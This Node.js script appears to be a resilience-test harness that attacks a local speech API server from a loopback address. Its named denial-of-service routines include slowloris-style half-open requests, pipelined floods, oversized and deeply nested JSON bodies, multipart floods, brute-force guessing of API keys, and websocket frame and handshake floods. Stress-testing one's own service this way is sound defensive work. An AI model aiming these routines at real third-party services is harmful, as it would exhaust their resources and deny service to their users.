// node attacker.mjs NAME BASE_URL SECRET SECONDS RECORDING VOICE_ID: attacks from another loopback address than the good client's, until it is
// ended or the time is over, and then says in JSON what it has sent and what became of it.
import { randomBytes } from 'node:crypto';
import { createRequire } from 'node:module';
import { connect } from 'node:net';

const { generateSecret } = createRequire(import.meta.url)('../../dist/libs/domain/keys/api-key-secret.js');
const [name, baseUrl, secret, seconds, recording, voiceId] = process.argv.slice(2);
const longRecording = Buffer.from(recording, 'base64');
const { hostname, port } = new URL(baseUrl);
const endsAt = Date.now() + Number(seconds) * 1_000;

const FROM = '127.0.0.66';
/** An attack ends here, however long it may take. */
const MOST_CONNECTIONS = 20_000;
const RECONNECT_MS = 250;

const sockets = new Set();
const seen = { connections: 0, bytesSent: 0, answers: {}, closed: 0, failed: 0 };

/** A connection that sends something and, unless it `reads`, never takes a response. */
function open(text, { reads = false, onClose, onResponse, from = FROM } = {}) {
  if (seen.connections >= MOST_CONNECTIONS) return undefined;
  seen.connections += 1;
  const socket = connect({ host: hostname, port: Number(port), localAddress: from });
  socket.on('error', () => (seen.failed += 1));
  socket.on('close', () => {
    seen.closed += 1;
    sockets.delete(socket);
    seen.bytesSent += socket.bytesWritten;
    onClose?.();
  });
  if (reads) {
    socket.on('data', (data) => {
      const statuses = data.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g);
      for (const [, status] of statuses) {
        seen.answers[status] = (seen.answers[status] ?? 0) + 1;
        onResponse?.(socket);
      }
    });
  } else socket.pause();
  if (text !== '') socket.write(text);
  sockets.add(socket);
  return socket;
}

/** As many connections all the time, each opened again a moment after it was closed. */
function keepOpen(count, text) {
  const again = () => Date.now() < endsAt && setTimeout(() => open(text, { onClose: again }), RECONNECT_MS);
  for (let i = 0; i < count; i += 1) open(text, { onClose: again });
}

/** The same, by one that reads nothing: it learns that a connection was closed by writing to it. */
function keepWriting(count, text) {
  keepOpen(count, text);
  setInterval(() => sockets.forEach((socket) => socket.write('\r\n')), RECONNECT_MS);
}

const get = (path, headers = '') => `GET ${path} HTTP/1.1\r\nHost: here\r\n${headers}\r\n`;
const post = (path, type, body, headers = '') =>
  `POST ${path} HTTP/1.1\r\nHost: here\r\ncontent-type: ${type}\r\ncontent-length: ${body.length}\r\n${headers}\r\n${body}`;
const withKey = `xi-api-key: ${secret}\r\n`;

const PIPELINED = get('/openapi.json').repeat(Math.ceil(57_000 / get('/openapi.json').length));

/** The same request, so many times a second, on a new connection each time. */
const repeat = (request, perSecond) =>
  setInterval(
    () => open(request, { reads: true, onResponse: (socket) => socket.destroy() }),
    1_000 / perSecond,
  );

function sendBodies() {
  const body = JSON.stringify({ voice_name: 'x'.repeat(1024 * 1024 - 100) });
  const request = post('/v1/text-to-voice', 'application/json', body, withKey);
  const round = () => {
    const sockets = Array.from({ length: 200 }, () => open(request.slice(0, -1), { reads: true }));
    setTimeout(() => sockets.forEach((socket) => socket?.end(request.slice(-1))), 2_500);
  };
  round();
  setInterval(round, 5_000);
}

function inventKeys() {
  const perTick = 1_670 / 100;
  const lines = [];
  const add = () => lines.push(open('', { reads: true, onClose: () => Date.now() < endsAt && add() }));
  for (let i = 0; i < 200; i += 1) add();
  let owed = 0;
  setInterval(() => {
    for (owed += perTick; owed >= 1; owed -= 1) {
      const socket = lines.shift();
      if (!socket || socket.destroyed) continue;
      lines.push(socket);
      socket.write(get('/v1/models', `xi-api-key: ${generateSecret('api_key', randomBytes)}\r\n`));
    }
  }, 10);
}

/** A form with these files. */
function form(files) {
  const head = Buffer.from('--x\r\ncontent-disposition: form-data; name="files"; filename="a"\r\n\r\n');
  const name = '\r\n--x\r\ncontent-disposition: form-data; name="name"\r\n\r\nA\r\n--x--\r\n';
  const body = Buffer.concat([
    ...files.flatMap((file) => [head, file, Buffer.from('\r\n')]).slice(0, -1),
    Buffer.from(name),
  ]);
  const type = `content-type: multipart/form-data; boundary=x\r\ncontent-length: ${body.length}\r\n`;
  const line = `POST /v1/voices/add HTTP/1.1\r\nHost: here\r\n${withKey}${type}\r\n`;
  return Buffer.concat([Buffer.from(line), body]);
}

/** As long as a client waits that is refused. */
const AGAIN_MS = 1_000;

/** As many requests at a time, the next on a connection of its own when one has its response. */
function keepSending(count, request) {
  const again = () =>
    Date.now() < endsAt &&
    open(request, {
      reads: true,
      onResponse: (socket) => socket.destroy(),
      onClose: () => setTimeout(again, AGAIN_MS),
    });
  for (let i = 0; i < count; i += 1) again();
}

const LARGE_FILE = 10_800_000;

function leaveUploads() {
  const file = Buffer.alloc(LARGE_FILE);
  for (let at = 0; at + longRecording.length < LARGE_FILE; at += longRecording.length)
    longRecording.copy(file, at);
  const request = form([file]);
  const leave = () => {
    const socket = open('');
    socket?.write(request, () => setTimeout(() => socket.destroy(), 200));
  };
  for (let i = 0; i < 29; i += 1) setTimeout(leave, i * 300);
}

const SIGN_IN = '/admin/auth/sign-in';
const JSON_TYPE = 'application/json';

/** The handshake of a speech socket. */
const handshake = (headers) =>
  get(
    `/v1/text-to-speech/${voiceId}/stream-input?model_id=eleven_flash_v2_5&inactivity_timeout=180`,
    `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${'A'.repeat(22)}==\r\n${headers}`,
  );

/** A frame of a client (RFC 6455, 5.2) with a mask of zeros; of `length` bytes, although fewer may follow. */
function frame(first, payload = '', length = Buffer.byteLength(payload)) {
  const size = length < 126 ? Buffer.of(0x80 | length) : Buffer.alloc(9, 0xff);
  if (length >= 126) size.writeBigUInt64BE(BigInt(length), 1);
  return Buffer.concat([Buffer.of(first), size, Buffer.alloc(4), Buffer.from(payload)]);
}

const TEXT = 0x81;
const message = (fields) => frame(TEXT, JSON.stringify(fields));

/** So many sockets all the time, which send `begin` and then `more` as fast as it is taken. */
function floodSockets(count, headers, begin, more) {
  const again = () => Date.now() < endsAt && setTimeout(flood, RECONNECT_MS);
  const flood = () => {
    const socket = open(handshake(headers), { reads: true, onClose: again });
    const send = () => {
      while (!socket.destroyed && socket.write(more));
    };
    socket?.on('drain', send).write(begin, send);
  };
  for (let i = 0; i < count; i += 1) flood();
}

const ATTACKS = {
  'six-sockets': () => keepWriting(6, PIPELINED),
  'many-sockets': () => keepWriting(300, PIPELINED),
  'slow-readers': () => keepOpen(3_000, get('/openapi.json')),
  'half-open': () => keepOpen(1_000, 'GET /v1/models HTTP/1.1\r\nHost: here\r\nX-Slow: '),
  bodies: sendBodies,
  'endless-form': () => {
    const body = '--x\r\ncontent-disposition: form-data; name="a"; filename="b"\r\n\r\nx';
    repeat(post('/v1/voices/21m00Tcm4TlvDq8ikWAM/edit', 'multipart/form-data; boundary=x', body, withKey), 4);
  },
  designs: () => {
    const body = JSON.stringify({ voice_description: 'Counts without a breath.', text: '0'.repeat(1_000) });
    for (let i = 0; i < 60; i += 1)
      open(post('/v1/text-to-voice/design', JSON_TYPE, body, withKey), { reads: true });
  },
  fields: () => {
    const fields = Array.from({ length: 90_000 }, (_, index) => `"f${index}":1`);
    repeat(post(SIGN_IN, JSON_TYPE, `{${fields.join(',')}}`), 4);
  },
  parts: () => {
    const part = '--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n';
    const body = `${part.repeat(20_000)}--x--\r\n`;
    repeat(post('/v1/voices/21m00Tcm4TlvDq8ikWAM/edit', 'multipart/form-data; boundary=x', body, withKey), 4);
  },
  'deep-json': () => repeat(post(SIGN_IN, JSON_TYPE, '['.repeat(500_000) + ']'.repeat(500_000)), 4),
  'invented-keys': inventKeys,
  'wav-chunks': () => {
    const chunks = Buffer.alloc(11_000_000);
    chunks.fill(Buffer.from('junk\0\0\0\0'), 12);
    chunks.write('RIFF\0\0\0\0WAVE', 'latin1');
    repeat(form([chunks]), 2);
  },
  'long-uploads': () => keepSending(12, form(Array(25).fill(longRecording))),
  'left-uploads': leaveUploads,
  'open-bodies': () => {
    const request = `POST /v1/text-to-voice HTTP/1.1\r\nHost: here\r\n${withKey}content-type: ${JSON_TYPE}\r\n`;
    const body = `transfer-encoding: chunked\r\n\r\n1\r\n{\r\n`;
    for (let i = 0; i < 40; i += 1) open(request + body, { reads: true, from: hostname });
  },
  'unspeakable-text': () => {
    const texts = Array.from({ length: 13 }, (_, i) => message({ text: (i % 2 ? '"' : '‹').repeat(3_000) }));
    const more = Buffer.concat(Array(40).fill(message({})));
    const round = () =>
      open(Buffer.concat([Buffer.from(handshake(withKey)), ...texts, more]), { reads: true });
    round();
    setInterval(round, 1_000);
  },
  'socket-messages': () => floodSockets(20, withKey, '', Buffer.concat(Array(100).fill(message({})))),
  'socket-handshakes': () => {
    const again = () => Date.now() < endsAt && setTimeout(hold, RECONNECT_MS);
    const hold = () => open(handshake(''), { reads: true, onClose: again });
    for (let i = 0; i < 1_000; i += 1) hold();
  },
  'unfinished-frames': () => {
    const part = frame(TEXT, 'x'.repeat(1_000_000), 1_000_001);
    keepOpen(300, Buffer.concat([Buffer.from(handshake('')), part]));
  },
  'unfinished-frames-with-key': () => {
    const part = frame(TEXT, 'x'.repeat(1_000_000), 1_000_001);
    keepOpen(200, Buffer.concat([Buffer.from(handshake(withKey)), part]));
  },
  'empty-frames': () => {
    const [first, continuation, ping] = [frame(0x01, '{'), frame(0x00), frame(0x89)];
    floodSockets(
      20,
      withKey,
      first,
      Buffer.concat(Array.from({ length: 1_000 }, () => [continuation, ping]).flat()),
    );
  },
  'refused-frames': () => {
    const pings = Buffer.concat(Array.from({ length: 2_000 }, () => frame(0x89)));
    const again = () => {
      if (Date.now() >= endsAt) return;
      const socket = open(handshake(''), {
        reads: true,
        onClose: () => setTimeout(again, RECONNECT_MS),
        onResponse: () => {
          socket.setNoDelay(true);
          socket.write(pings);
          setTimeout(() => socket.write(frame(0x88, '\0\x01')), 1);
          setTimeout(() => socket.write(Buffer.alloc(100, 0x20)), 3);
        },
      });
    };
    for (let i = 0; i < 20; i += 1) again();
  },
  'screened-texts': () => {
    const body = JSON.stringify({ voice_description: 'a '.repeat(500), text: 'a '.repeat(500) });
    keepSending(4, post('/v1/text-to-voice/design', JSON_TYPE, body, withKey));
  },
};

ATTACKS[name]();
process.send?.('started');
/** One that reads nothing learns of its end only now. */
function readOn() {
  for (const socket of sockets) socket.resume();
}

setTimeout(readOn, Number(seconds) * 1_000);
setTimeout(() => process.send?.(seen, () => process.exit(0)), Number(seconds) * 1_000 + 1_000);
